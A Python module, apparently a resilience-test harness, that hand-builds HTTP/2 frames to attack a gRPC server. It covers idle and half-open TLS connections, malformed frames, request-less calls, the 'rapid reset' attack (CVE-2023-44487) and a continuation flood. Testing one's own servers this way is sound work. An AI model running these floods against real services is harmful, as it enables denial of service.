"""Attacks on a gRPC port, by a stranger or a caller with a certificate: frames of HTTP/2 by hand (RFC 9113).

Every attack leaves its connections open in ``opened``, which the caller closes.
"""

import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS, _PING, _RST_STREAM, _CONTINUATION = 0, 1, 4, 6, 3, 9
_END_HEADERS: Final = 4
_CLIENT_HELLO_BEGUN: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
"""A TLS record of 512 bytes, of which 6 come (RFC 8446, 4.1.2)."""

Connect = Callable[[], socket.socket]


def idle(connect: Connect, opened: ExitStack, *, times: int) -> list[socket.socket]:
    """Connections that say nothing; fewer, where the server hangs up."""
    return [opened.enter_context(connect()) for _ in range(times)]


def half_open_handshakes(connect: Connect, opened: ExitStack, *, times: int) -> list[socket.socket]:
    """TLS handshakes that end in their first record."""
    connections = idle(connect, opened, times=times)
    for connection in connections:
        _send(connection, _CLIENT_HELLO_BEGUN)
    return connections


def garbage(connect: Connect, opened: ExitStack) -> list[socket.socket]:
    """Bytes that are no HTTP/2, frames that lie about their length, and frames that no stream has."""
    wrong = (
        b"GET / HTTP/1.1\r\n\r\n" * 1000,
        b"\xff" * 100_000,
        PREFACE + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + b"\x00" * 100_000,
        PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_DATA, 0, 77, b"x" * 16_000),
        PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, 1, b"\xff" * 16_000),
    )
    connections = idle(connect, opened, times=len(wrong))
    for connection, sent in zip(connections, wrong, strict=True):
        _send(connection, sent)
    return connections


def calls_without_request(
    connect: Connect, opened: ExitStack, path: str, *, connections: int, calls: int
) -> list[socket.socket]:
    """On each connection so many calls of ``path`` whose requests never come."""
    made = idle(connect, opened, times=connections)
    for connection in made:
        begun = b"".join(_frame(_HEADERS, _END_HEADERS, stream, _call(path)) for stream in _streams(calls))
        _send(connection, PREFACE + _frame(_SETTINGS, 0, 0, b"") + begun)
    return made


def broken_off_calls(connect: Connect, opened: ExitStack, path: str, *, calls: int) -> list[socket.socket]:
    """Calls that are reset as soon as they are begun ("rapid reset", CVE-2023-44487), with pings between them."""
    (connection,) = idle(connect, opened, times=1)
    sent = [PREFACE, _frame(_SETTINGS, 0, 0, b"")]
    for stream in _streams(calls):
        sent += [
            _frame(_HEADERS, _END_HEADERS, stream, _call(path)),
            _frame(_RST_STREAM, 0, stream, struct.pack(">I", 8)),
            _frame(_PING, 0, 0, b"\x00" * 8),
        ]
    _send(connection, b"".join(sent))
    return [connection]


def headers_without_end(connect: Connect, opened: ExitStack, path: str, *, megabytes: int) -> list[socket.socket]:
    """One call whose metadata goes on and on ("continuation flood")."""
    (connection,) = idle(connect, opened, times=1)
    _send(connection, PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, 0, 1, _call(path)))
    part = _frame(_CONTINUATION, 0, 1, _literal(b"x", b"v" * 8_000)) * 128
    for _ in range(megabytes):
        _send(connection, part)
    return [connection]


def is_closed(connection: socket.socket) -> bool:
    """Whether the server hung up. Reads its earlier bytes and forgets them. Does not wait."""
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except (BlockingIOError, InterruptedError):
        return False
    except OSError:
        return True
    return True


def _send(connection: socket.socket, sent: bytes) -> None:
    connection.settimeout(5.0)  # the server may never read
    with suppress(OSError):  # or it hangs up
        connection.sendall(sent)


def _streams(calls: int) -> Iterator[int]:
    return iter(range(1, 2 * calls, 2))


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def _call(path: str) -> bytes:
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(_literal(name.encode(), value.encode()) for name, value in fields.items())


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing (RFC 7541, 6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    length, most = len(text), 127
    if length < most:
        return bytes((length,)) + text
    length -= most
    written = bytearray((most,))
    while length >= 128:
        written.append(length % 128 + 128)
        length //= 128
    return bytes((*written, length)) + text
